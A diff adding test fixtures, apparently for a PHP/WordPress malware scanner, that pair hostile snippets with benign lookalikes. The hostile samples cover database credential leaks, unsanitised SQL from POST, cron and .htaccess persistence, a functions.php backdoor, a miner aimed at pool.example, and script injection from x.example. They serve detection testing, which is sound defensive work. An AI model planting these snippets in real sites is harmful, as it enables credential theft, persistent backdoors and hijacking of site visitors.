@@ -175,4 +175,52 @@ export const HARM: readonly Technique[] = [
       php(`$s = ''; foreach ($codes as $b) $s .= chr($b); echo $s;`),
     ],
   },
+  {
+    name: 'secrets of the database',
+    severity: 'suspicious',
+    samples: [
+      php(`require 'wp-load.php'; print_r($wpdb->get_results(stripslashes($_POST['q'])));`),
+      php(`include '../wp-config.php'; echo DB_USER . ' ' . DB_PASSWORD;`),
+    ],
+    honest: [
+      php(`print_r($wpdb->get_results($wpdb->prepare('select * from t where id = %d', $_POST['id'])));`),
+      php(`$db = new wpdb(DB_USER, DB_PASSWORD, DB_NAME, DB_HOST); echo DB_NAME;`),
+    ],
+  },
+  {
+    name: 'what stays',
+    severity: 'suspicious',
+    samples: [
+      php(`$me = file_get_contents(__FILE__); while (true) { file_put_contents('wp-q.php', $me); sleep(3); }`),
+      php(`copy(__FILE__, $_SERVER['DOCUMENT_ROOT'] . '/q.php');`),
+      php(`file_put_contents('/tmp/.q', $t); chmod('/tmp/.q', 0755); exec('/tmp/.q > /dev/null &');`),
+      php(`exec("(crontab -l; echo '* * * * * php /tmp/q') | crontab -");`),
+      php(`shell_exec('nohup ./xmrig -o pool.example:3333 &');`),
+      php(`file_put_contents('wp-content/themes/x/functions.php', "<?php include '/tmp/.q'; ?>" . $t);`),
+      php(
+        `$h = file_get_contents('.htaccess') . "\nphp_value auto_prepend_file /tmp/.q"; file_put_contents('.htaccess', $h);`,
+      ),
+    ],
+    honest: [
+      php(`class Installer { function copy() { copy(__FILE__, $this->target); } }`),
+      php(`$version = file_get_contents(__DIR__ . '/version.txt'); file_put_contents('cache.txt', $version);`),
+      php(`exec('ls /tmp/cache', $lines); echo count($lines);`),
+      php(`defined('ABSPATH') || exit; $line = 'auto_prepend_file'; file_put_contents(ABSPATH . '.user.ini', $line);`),
+    ],
+  },
+  {
+    name: 'what pages hide',
+    severity: 'suspicious',
+    samples: [
+      php(
+        `add_action('wp_head', function () { echo base64_decode('${base64('<script src="//x.example/a.js"></script>')}'); });`,
+      ),
+      php(`echo str_rot13('<vsenzr fep=//k.rknzcyr></vsenzr>');`),
+      php(`$s = new SoapServer(null, array('uri' => 'x')); $s->addFunction('system'); $s->handle();`),
+    ],
+    honest: [
+      php(`echo base64_decode('${base64('a plain text for everyone to read')}');`),
+      php(`$s = new SoapServer('x.wsdl'); $s->addFunction('price'); $s->handle();`),
+    ],
+  },
 ]
